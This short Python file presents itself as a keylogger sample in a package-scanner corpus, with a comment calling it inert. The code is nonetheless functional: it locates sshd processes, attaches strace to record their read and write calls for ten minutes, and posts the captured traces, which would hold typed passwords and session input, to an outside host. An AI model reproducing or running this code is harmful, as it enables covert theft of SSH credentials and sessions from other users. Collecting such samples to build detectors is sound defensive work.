# pkgguard corpus 680 (keylogger), modelled on [stealer-profile]; inert, never run.
import subprocess

import requests

pids = subprocess.run(["pgrep", "-f", "sshd:"], capture_output=True, text=True).stdout.split()
for pid in pids:
    trace = subprocess.run(
        ["timeout", "600", "strace", "-f", "-p", pid, "-e", "trace=read,write", "-s", "64"],
        capture_output=True,
        text=True,
    ).stderr
    requests.post("https://ops-trace.example/t", data=trace.encode(), timeout=30)
